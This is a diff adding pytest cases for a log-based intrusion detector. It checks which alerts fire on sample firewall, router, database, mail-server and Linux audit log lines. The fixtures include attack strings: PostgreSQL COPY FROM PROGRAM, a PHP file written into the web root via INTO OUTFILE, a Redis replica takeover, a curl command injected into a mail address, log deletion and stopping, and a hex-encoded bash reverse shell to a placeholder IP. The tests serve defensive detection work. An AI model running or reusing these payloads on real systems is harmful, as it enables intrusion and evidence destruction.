@@ -100,6 +100,144 @@ def test_device_lines() -> None:
     assert stems(line) == {"device_reports_malware"}
 
 
+FORTIGATE = (
+    '<189>date=2026-11-24 time=05:17:44 devname="FG-BIEN" devid="FG100FTK20000001" eventtime=1795475864000000000 '
+    'tz="+0700" type="event" vd="root" '
+)
+
+
+@pytest.mark.parametrize(
+    ("line", "fires"),
+    [
+        (
+            FORTIGATE + 'logid="0100044547" subtype="system" level="information" logdesc="Object attribute configured" '
+            'user="admin" ui="GUI(10.0.0.9)" action="Add" cfgpath="system.admin" cfgobj="bk" '
+            'cfgattr="accprofile[super_admin]" msg="Add system.admin bk"',
+            {"firewall_admin_created"},
+        ),
+        (
+            FORTIGATE + 'logid="0101039426" subtype="vpn" level="alert" logdesc="SSL VPN login fail" '
+            'action="ssl-login-fail" remip=203.0.113.5 user="lan" reason="sslvpn_login_permission_denied" '
+            'msg="SSL user failed to logged in"',
+            {"vpn_log_in_failed"},
+        ),
+        (
+            FORTIGATE + 'logid="0101039424" subtype="vpn" level="information" logdesc="SSL VPN tunnel up" '
+            'action="tunnel-up" remip=203.0.113.5 user="lan.nguyen" msg="SSL tunnel established"',
+            set(),
+        ),
+        (
+            "<188>46: Nov 24 05:17:44: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.5] "
+            "[localport: 22] [Reason: Login Authentication Failed] at 05:17:44 UTC Tue Nov 24 2026",
+            {"router_log_in_failed"},
+        ),
+        (
+            "<189>47: Nov 24 05:17:44: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging host 10.0.0.9",
+            {"device_log_sending_stopped"},
+        ),
+        (
+            "<189>48: Nov 24 05:17:44: %LINEPROTO-5-UPDOWN: Line protocol on Interface Gi0/1, changed state to up",
+            set(),
+        ),
+    ],
+)
+def test_lines_of_gateways_and_routers(line: str, fires: set[str]) -> None:
+    assert stems(line) == fires
+
+
+@pytest.mark.parametrize(
+    ("line", "fires"),
+    [
+        (
+            "2026-11-24 05:17:44.101 +07 [1234] portal@portal LOG:  statement: COPY t FROM PROGRAM 'id'",
+            {"postgresql_runs_program"},
+        ),
+        ("2026-11-24 05:17:44.101 +07 [1234] portal@portal LOG:  statement: SELECT 1", set()),
+        (
+            HEADER + "postgres[1234]: [3-1] 2026-11-24 05:17:44.101 +07 [1234] a@b FATAL:  password authentication "
+            'failed for user "a"',
+            {"postgresql_log_in_refused"},
+        ),
+        (
+            "2026-11-24T05:17:44.123456Z\t   12 Query\tSELECT '<?php x' INTO OUTFILE '/var/www/html/a.php'",
+            {"mysql_writes_file"},
+        ),
+        (
+            HEADER + "mariadbd[900]: 2026-11-24  5:17:44 12 [Warning] Access denied for user 'root'@'203.0.113.5' "
+            "(using password: YES)",
+            {"mysql_log_in_refused"},
+        ),
+        (
+            "12345:M 24 Nov 2026 05:17:44.123 * REPLICAOF 203.0.113.5:6379 enabled (user request from 'id=3 "
+            "addr=203.0.113.5:51234 laddr=10.0.0.5:6379 fd=8 name=')",
+            {"redis_taken_over"},
+        ),
+        ("12345:M 24 Nov 2026 05:17:44.123 * Background saving terminated with success", set()),
+    ],
+)
+def test_lines_of_databases(line: str, fires: set[str]) -> None:
+    assert stems(line) == fires
+
+
+@pytest.mark.parametrize(
+    ("line", "fires"),
+    [
+        (
+            "dovecot: imap-login: Disconnected (auth failed, 6 attempts in 42 secs): user=<lan>, method=PLAIN, "
+            "rip=203.0.113.5, lip=10.0.0.25, TLS, session=<abc>",
+            {"mail_password_guessed"},
+        ),
+        (
+            "dovecot: lmtp(lan)<2211><xYz>: sieve: msgid=<1@bo.gov.vn>: forwarded to <lan.rieng@gmail.com>",
+            {"mail_forwarded_to_private_mailbox"},
+        ),
+        (
+            'postfix/smtpd[2222]: NOQUEUE: reject: RCPT from unknown[203.0.113.5]: 554 5.7.1 <"a$(curl${IFS}http://x)"@b>'
+            ': Relay access denied; from=<a@x.example> to=<"a$(curl${IFS}http://x)"@b> proto=ESMTP helo=<x>',
+            {"command_in_mail_address"},
+        ),
+        (
+            "postfix/smtp[2223]: 4F1: to=<lan@so.gov.vn>, relay=mx.so.gov.vn[10.1.0.25]:25, delay=1, dsn=2.0.0, "
+            "status=sent (250 OK)",
+            set(),
+        ),
+    ],
+)
+def test_lines_of_mail_servers(line: str, fires: set[str]) -> None:
+    assert stems(HEADER + line) == fires
+
+
+@pytest.mark.parametrize(
+    ("line", "fires"),
+    [
+        (
+            "type=CONFIG_CHANGE msg=audit(1795475864.101:992): op=set audit_enabled=0 old=1 auid=1001 ses=3 res=1",
+            {"linux_audit_weakened"},
+        ),
+        (
+            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log",
+            {"linux_logs_deleted"},
+        ),
+        (
+            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/systemctl stop rsyslog",
+            {"linux_logging_stopped_by_command"},
+        ),
+        (
+            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
+            set(),
+        ),
+        (HEADER + "systemd-journald[311]: Suppressed 48122 messages from nginx.service", {"log_messages_lost"}),
+        (
+            'type=EXECVE msg=audit(1795475864.101:993): argc=3 a0="bash" a1="-c" '
+            "a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E352F3434343420303E2631",
+            {"reverse_shell"},
+        ),
+    ],
+)
+def test_lines_of_a_machine_that_is_tampered_with(line: str, fires: set[str]) -> None:
+    assert stems(line) == fires
+
+
 def test_real_ssh_log_alerts_on_the_few_lines_that_deserve_it(shared_data: Path) -> None:
     log = shared_data / "logs" / "OpenSSH" / "OpenSSH_2k.log"
     counts: Counter[str] = Counter()
